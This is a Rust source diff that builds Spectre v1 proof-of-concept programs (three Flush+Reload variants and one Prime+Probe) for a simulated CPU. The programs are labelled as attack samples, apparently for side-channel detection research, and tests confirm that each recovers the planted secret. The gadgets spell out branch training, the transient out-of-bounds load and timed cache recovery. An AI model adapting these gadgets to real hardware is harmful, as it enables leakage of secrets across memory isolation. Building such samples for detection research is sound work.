@@ -1,0 +1,429 @@
+//! Spectre-like variants (S-FR ×3, S-PP ×1 in Table II).
+//!
+//! Each PoC trains a bounds-check branch, then supplies an out-of-bounds
+//! index; the mispredicted branch transiently executes the in-bounds path,
+//! loading `probe[array1[x] * LINE]` with the out-of-bounds (secret) value
+//! of `array1[x]` — the cache fill survives the squash. The secret is then
+//! recovered with Flush+Reload (S-FR) or Prime+Probe (S-PP) over the probe
+//! region. No co-located victim is needed: the "victim" is the transient
+//! gadget itself.
+
+use sca_cpu::Victim;
+use sca_isa::{AluOp, Cond, InstTag, MemRef, ProgramBuilder, Reg};
+
+use crate::layout::{prime_addr, ATTACKER_BASE, LINE, LLC_SETS, MONITOR_SET_BASE, RESULT_BASE};
+use crate::poc::PocParams;
+use crate::sample::{AttackFamily, Label, Sample};
+
+/// Logical size of `array1` (in 64-bit words); the secret sits just past it.
+const ARRAY1_SIZE: u64 = 4;
+
+/// Index table driving the training loop (one word per iteration).
+const IDX_TABLE: u64 = ATTACKER_BASE + 512 * LINE;
+/// The bounds-checked array; `array1[ARRAY1_SIZE]` holds the secret.
+const ARRAY1: u64 = ATTACKER_BASE + 520 * LINE;
+/// Flush+Reload probe region for S-FR (line `i` in LLC set `i`).
+const FR_PROBE: u64 = ATTACKER_BASE + 0x20_0000;
+/// Prime+Probe oracle region for S-PP (line `i` in LLC set
+/// `MONITOR_SET_BASE + i`, clear of the sets holding program text).
+const PP_PROBE: u64 = 0x6000_0000 + MONITOR_SET_BASE * LINE;
+
+/// Emit the one-time memory setup: the secret word past `array1` and the
+/// malicious final entry of the index table.
+fn emit_setup(b: &mut ProgramBuilder, params: &PocParams) {
+    let (r, a) = (Reg::R0, Reg::R1);
+    // array1[ARRAY1_SIZE] = secret
+    b.mov_imm(r, params.spectre_secret as i64);
+    b.mov_imm(a, (ARRAY1 + ARRAY1_SIZE * 8) as i64);
+    b.store(r, MemRef::base(a));
+    // idx_table[training] = ARRAY1_SIZE (out of bounds); earlier entries
+    // stay zero (in bounds).
+    b.mov_imm(r, ARRAY1_SIZE as i64);
+    b.mov_imm(a, (IDX_TABLE + params.training * 8) as i64);
+    b.store(r, MemRef::base(a));
+}
+
+/// Emit the train-then-attack gadget loop. `k` iterations `0..training`
+/// use in-bounds indices; iteration `training` uses the out-of-bounds one,
+/// mispredicting the trained bounds check.
+fn emit_gadget(b: &mut ProgramBuilder, params: &PocParams, probe_base: u64) {
+    let (k, x, y) = (Reg::R2, Reg::R3, Reg::R4);
+    b.mov_imm(k, 0);
+    let train_top = b.here();
+    b.tagged(InstTag::Speculate, |b| {
+        // x = idx_table[k]
+        b.mov_reg(x, k);
+        b.alu_imm(AluOp::Shl, x, 3);
+        b.alu_imm(AluOp::Add, x, IDX_TABLE as i64);
+        b.load(x, MemRef::base(x));
+        // bounds check — the Spectre branch
+        b.cmp_imm(x, ARRAY1_SIZE as i64);
+    });
+    let out_of_bounds = b.new_label();
+    b.tag_next(InstTag::Speculate);
+    b.br(Cond::Ge, out_of_bounds);
+    b.tagged(InstTag::Speculate, |b| {
+        // y = array1[x]; touch probe[y * LINE]
+        b.mov_reg(y, x);
+        b.alu_imm(AluOp::Shl, y, 3);
+        b.alu_imm(AluOp::Add, y, ARRAY1 as i64);
+        b.load(y, MemRef::base(y));
+        b.alu_imm(AluOp::Shl, y, 6);
+        b.alu_imm(AluOp::Add, y, probe_base as i64);
+        b.load(y, MemRef::base(y));
+    });
+    b.bind(out_of_bounds);
+    b.alu_imm(AluOp::Add, k, 1);
+    b.cmp_imm(k, params.training as i64 + 1);
+    b.br(Cond::Lt, train_top);
+}
+
+/// Emit a timed Flush+Reload recovery pass over `probe_base`, recording
+/// fast lines to the result region.
+fn emit_fr_recover(b: &mut ProgramBuilder, params: &PocParams, probe_base: u64, reverse: bool) {
+    let (i, addr, t0, t1) = (Reg::R5, Reg::R6, Reg::R8, Reg::R9);
+    let mark = Reg::R10;
+    b.mov_imm(mark, 1);
+    if reverse {
+        b.mov_imm(i, params.probe_lines as i64 - 1);
+    } else {
+        b.mov_imm(i, 0);
+    }
+    let top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Shl, addr, 6);
+    b.alu_imm(AluOp::Add, addr, probe_base as i64);
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t0);
+    b.tag_next(InstTag::Reload);
+    b.load(t1, MemRef::base(addr));
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t1);
+    b.tag_next(InstTag::Time);
+    b.alu(AluOp::Sub, t1, t0);
+    b.tag_next(InstTag::Recover);
+    b.cmp_imm(t1, params.reload_threshold);
+    let slow = b.new_label();
+    b.tag_next(InstTag::Recover);
+    b.br(Cond::Ge, slow);
+    b.tagged(InstTag::Recover, |b| {
+        b.mov_reg(addr, i);
+        b.alu_imm(AluOp::Shl, addr, 3);
+        b.alu_imm(AluOp::Add, addr, RESULT_BASE as i64);
+        b.store(mark, MemRef::base(addr));
+    });
+    b.bind(slow);
+    if reverse {
+        b.cmp_imm(i, 0);
+        let done = b.new_label();
+        b.br(Cond::Eq, done);
+        b.alu_imm(AluOp::Sub, i, 1);
+        b.jmp(top);
+        b.bind(done);
+    } else {
+        b.alu_imm(AluOp::Add, i, 1);
+        b.cmp_imm(i, params.probe_lines as i64);
+        b.br(Cond::Lt, top);
+    }
+}
+
+/// Emit a flush pass over the probe region.
+fn emit_flush_probe(b: &mut ProgramBuilder, params: &PocParams, probe_base: u64) {
+    let (i, addr) = (Reg::R5, Reg::R6);
+    b.mov_imm(i, 0);
+    let top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Shl, addr, 6);
+    b.alu_imm(AluOp::Add, addr, probe_base as i64);
+    b.tag_next(InstTag::Flush);
+    b.clflush(MemRef::base(addr));
+    b.alu_imm(AluOp::Add, i, 1);
+    b.cmp_imm(i, params.probe_lines as i64);
+    b.br(Cond::Lt, top);
+}
+
+/// Spectre v1 over Flush+Reload, the canonical PoC layout: per round,
+/// flush probe → train-and-leak → timed reload.
+pub fn spectre_fr_v1(params: &PocParams) -> Sample {
+    let mut b = ProgramBuilder::new("Spectre-FR-v1");
+    crate::poc::emit_load_calibration(&mut b);
+    emit_setup(&mut b, params);
+    let round = Reg::R7;
+    b.mov_imm(round, 0);
+    let round_top = b.here();
+    emit_flush_probe(&mut b, params, FR_PROBE);
+    emit_gadget(&mut b, params, FR_PROBE);
+    emit_fr_recover(&mut b, params, FR_PROBE, false);
+    b.alu_imm(AluOp::Add, round, 1);
+    b.cmp_imm(round, params.rounds as i64);
+    b.br(Cond::Lt, round_top);
+    crate::poc::emit_report(&mut b, params.probe_lines);
+    b.halt();
+    Sample::new(
+        b.build(),
+        Victim::None,
+        Label::Attack(AttackFamily::SpectreFlushReload),
+    )
+}
+
+/// Spectre v1 over Flush+Reload with an `lfence`-delimited gadget and a
+/// reverse-order recovery pass (the "good" PoC variant).
+pub fn spectre_fr_v2(params: &PocParams) -> Sample {
+    let mut b = ProgramBuilder::new("Spectre-FR-v2");
+    crate::poc::emit_load_calibration(&mut b);
+    emit_setup(&mut b, params);
+    let round = Reg::R7;
+    b.mov_imm(round, 0);
+    let round_top = b.here();
+    emit_flush_probe(&mut b, params, FR_PROBE);
+    b.mfence();
+    emit_gadget(&mut b, params, FR_PROBE);
+    b.lfence();
+    emit_fr_recover(&mut b, params, FR_PROBE, true);
+    b.alu_imm(AluOp::Add, round, 1);
+    b.cmp_imm(round, params.rounds as i64);
+    b.br(Cond::Lt, round_top);
+    crate::poc::emit_report(&mut b, params.probe_lines);
+    b.halt();
+    Sample::new(
+        b.build(),
+        Victim::None,
+        Label::Attack(AttackFamily::SpectreFlushReload),
+    )
+}
+
+/// Spectre v1 over Flush+Reload with hit-count accumulation: like
+/// [`spectre_fr_v1`] but the recovery pass increments a per-line counter
+/// (load/add/store) instead of setting a flag, with a fence between the
+/// transient leak and the recovery.
+pub fn spectre_fr_v3(params: &PocParams) -> Sample {
+    let mut b = ProgramBuilder::new("Spectre-FR-v3");
+    crate::poc::emit_load_calibration(&mut b);
+    emit_setup(&mut b, params);
+    let round = Reg::R7;
+    b.mov_imm(round, 0);
+    let round_top = b.here();
+    emit_flush_probe(&mut b, params, FR_PROBE);
+    emit_gadget(&mut b, params, FR_PROBE);
+    b.mfence();
+    // Recovery with accumulating hit counters.
+    let (i, addr, t0, t1, cnt) = (Reg::R5, Reg::R6, Reg::R8, Reg::R9, Reg::R10);
+    b.mov_imm(i, 0);
+    let top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Shl, addr, 6);
+    b.alu_imm(AluOp::Add, addr, FR_PROBE as i64);
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t0);
+    b.tag_next(InstTag::Reload);
+    b.load(t1, MemRef::base(addr));
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t1);
+    b.tag_next(InstTag::Time);
+    b.alu(AluOp::Sub, t1, t0);
+    b.tag_next(InstTag::Recover);
+    b.cmp_imm(t1, params.reload_threshold);
+    let slow = b.new_label();
+    b.tag_next(InstTag::Recover);
+    b.br(Cond::Ge, slow);
+    b.tagged(InstTag::Recover, |b| {
+        b.mov_reg(addr, i);
+        b.alu_imm(AluOp::Shl, addr, 3);
+        b.alu_imm(AluOp::Add, addr, RESULT_BASE as i64);
+        b.load(cnt, MemRef::base(addr));
+        b.alu_imm(AluOp::Add, cnt, 1);
+        b.store(cnt, MemRef::base(addr));
+    });
+    b.bind(slow);
+    b.alu_imm(AluOp::Add, i, 1);
+    b.cmp_imm(i, params.probe_lines as i64);
+    b.br(Cond::Lt, top);
+
+    b.alu_imm(AluOp::Add, round, 1);
+    b.cmp_imm(round, params.rounds as i64);
+    b.br(Cond::Lt, round_top);
+    crate::poc::emit_report(&mut b, params.probe_lines);
+    b.halt();
+    Sample::new(
+        b.build(),
+        Victim::None,
+        Label::Attack(AttackFamily::SpectreFlushReload),
+    )
+}
+
+/// Trippel-style Spectre over Prime+Probe: prime the oracle sets, run the
+/// transient gadget (whose leak lands in one primed set), probe with
+/// timing. Works without `clflush` and without shared memory.
+pub fn spectre_pp_trippel(params: &PocParams) -> Sample {
+    let mut b = ProgramBuilder::new("Spectre-PP-Trippel");
+    crate::poc::emit_load_calibration(&mut b);
+    emit_setup(&mut b, params);
+    let (s, w, addr, t0, t1) = (Reg::R5, Reg::R6, Reg::R8, Reg::R9, Reg::R10);
+    let round = Reg::R7;
+    let n_sets = params.probe_lines as i64; // one oracle set per probe value
+    let ways = params.prime_ways as i64;
+    let stride = (LLC_SETS * LINE) as i64;
+    assert!(
+        ways.count_ones() == 1,
+        "way-index masking requires a power-of-two way count, got {ways}"
+    );
+
+    b.mov_imm(round, 0);
+    let round_top = b.here();
+
+    // Prime the oracle sets (way index masked — see the prime_probe
+    // module docs for the wrong-path hygiene this buys).
+    b.mov_imm(s, 0);
+    let prime_set_top = b.here();
+    b.mov_imm(w, 0);
+    let prime_way_top = b.here();
+    b.tagged(InstTag::Prime, |b| {
+        b.mov_reg(addr, w);
+        b.alu_imm(AluOp::And, addr, ways - 1);
+        b.alu_imm(AluOp::Mul, addr, stride);
+        b.mov_reg(t0, s);
+        b.alu_imm(AluOp::Shl, t0, 6);
+        b.alu(AluOp::Add, addr, t0);
+        b.alu_imm(AluOp::Add, addr, prime_addr(MONITOR_SET_BASE, 0) as i64);
+        b.load(t0, MemRef::base(addr));
+    });
+    b.alu_imm(AluOp::Add, w, 1);
+    b.cmp_imm(w, ways);
+    b.br(Cond::Lt, prime_way_top);
+    b.alu_imm(AluOp::Add, s, 1);
+    b.cmp_imm(s, n_sets);
+    b.br(Cond::Lt, prime_set_top);
+
+    // Transient leak into the oracle region (set = secret).
+    emit_gadget(&mut b, params, PP_PROBE);
+
+    // Probe the oracle sets, ways descending (the zig-zag: reverse of
+    // prime order).
+    b.mov_imm(s, 0);
+    let probe_set_top = b.here();
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t0);
+    b.mov_imm(w, ways - 1);
+    let probe_way_top = b.here();
+    b.tagged(InstTag::Probe, |b| {
+        b.mov_reg(addr, w);
+        b.alu_imm(AluOp::And, addr, ways - 1);
+        b.alu_imm(AluOp::Mul, addr, stride);
+        b.mov_reg(t1, s);
+        b.alu_imm(AluOp::Shl, t1, 6);
+        b.alu(AluOp::Add, addr, t1);
+        b.alu_imm(AluOp::Add, addr, prime_addr(MONITOR_SET_BASE, 0) as i64);
+        b.load(t1, MemRef::base(addr));
+    });
+    b.cmp_imm(w, 0);
+    let probe_done = b.new_label();
+    b.br(Cond::Eq, probe_done);
+    b.alu_imm(AluOp::Sub, w, 1);
+    b.jmp(probe_way_top);
+    b.bind(probe_done);
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t1);
+    b.tag_next(InstTag::Time);
+    b.alu(AluOp::Sub, t1, t0);
+    b.tag_next(InstTag::Recover);
+    b.cmp_imm(t1, params.probe_threshold);
+    let fast = b.new_label();
+    b.tag_next(InstTag::Recover);
+    b.br(Cond::Lt, fast);
+    // The round number is the recorded mark: the warm-up round stores 0
+    // (no flag), discarding its cold-instruction-cache noise for free.
+    b.tagged(InstTag::Recover, |b| {
+        b.mov_reg(addr, s);
+        b.alu_imm(AluOp::Shl, addr, 3);
+        b.alu_imm(AluOp::Add, addr, RESULT_BASE as i64);
+        b.store(round, MemRef::base(addr));
+    });
+    b.bind(fast);
+    b.alu_imm(AluOp::Add, s, 1);
+    b.cmp_imm(s, n_sets);
+    b.br(Cond::Lt, probe_set_top);
+
+    b.alu_imm(AluOp::Add, round, 1);
+    b.cmp_imm(round, params.rounds as i64);
+    b.br(Cond::Lt, round_top);
+    crate::poc::emit_report(&mut b, params.probe_lines);
+    b.halt();
+
+    Sample::new(
+        b.build(),
+        Victim::None,
+        Label::Attack(AttackFamily::SpectrePrimeProbe),
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use sca_cpu::{CpuConfig, Machine};
+
+    fn recovered(sample: &Sample, n: u64) -> Vec<u64> {
+        let mut m = Machine::new(CpuConfig::default());
+        let t = m.run(&sample.program, &sample.victim).expect("run");
+        assert!(t.halted, "{} must halt", sample.name());
+        (0..n)
+            .filter(|i| m.read_word(RESULT_BASE + i * 8) != 0)
+            .collect()
+    }
+
+    #[test]
+    fn spectre_fr_v1_leaks_the_secret() {
+        let params = PocParams::default();
+        let hits = recovered(&spectre_fr_v1(&params), params.probe_lines);
+        assert!(
+            hits.contains(&params.spectre_secret),
+            "transient leak must be recovered: {hits:?}"
+        );
+    }
+
+    #[test]
+    fn spectre_fr_v2_leaks_the_secret() {
+        let params = PocParams::default();
+        let hits = recovered(&spectre_fr_v2(&params), params.probe_lines);
+        assert!(hits.contains(&params.spectre_secret), "{hits:?}");
+    }
+
+    #[test]
+    fn spectre_fr_v3_leaks_the_secret() {
+        let params = PocParams::default();
+        let hits = recovered(&spectre_fr_v3(&params), params.probe_lines);
+        assert!(hits.contains(&params.spectre_secret), "{hits:?}");
+    }
+
+    #[test]
+    fn spectre_pp_detects_the_leak_set() {
+        let params = PocParams::default();
+        let hits = recovered(&spectre_pp_trippel(&params), params.probe_lines);
+        assert!(hits.contains(&params.spectre_secret), "{hits:?}");
+    }
+
+    #[test]
+    fn no_speculation_no_leak() {
+        // With the speculative window disabled, the out-of-bounds value
+        // never reaches the probe region: only the training line is hot.
+        let params = PocParams::default();
+        let s = spectre_fr_v1(&params);
+        let mut m = Machine::new(CpuConfig {
+            spec_window: 0,
+            ..CpuConfig::default()
+        });
+        let _ = m.run(&s.program, &s.victim).expect("run");
+        assert_eq!(
+            m.read_word(RESULT_BASE + params.spectre_secret * 8),
+            0,
+            "secret line must stay cold without speculation"
+        );
+    }
+
+    #[test]
+    fn spectre_variants_have_no_victim() {
+        let p = PocParams::default();
+        for s in [spectre_fr_v1(&p), spectre_fr_v2(&p), spectre_pp_trippel(&p)] {
+            assert!(matches!(s.victim, Victim::None));
+        }
+    }
+}
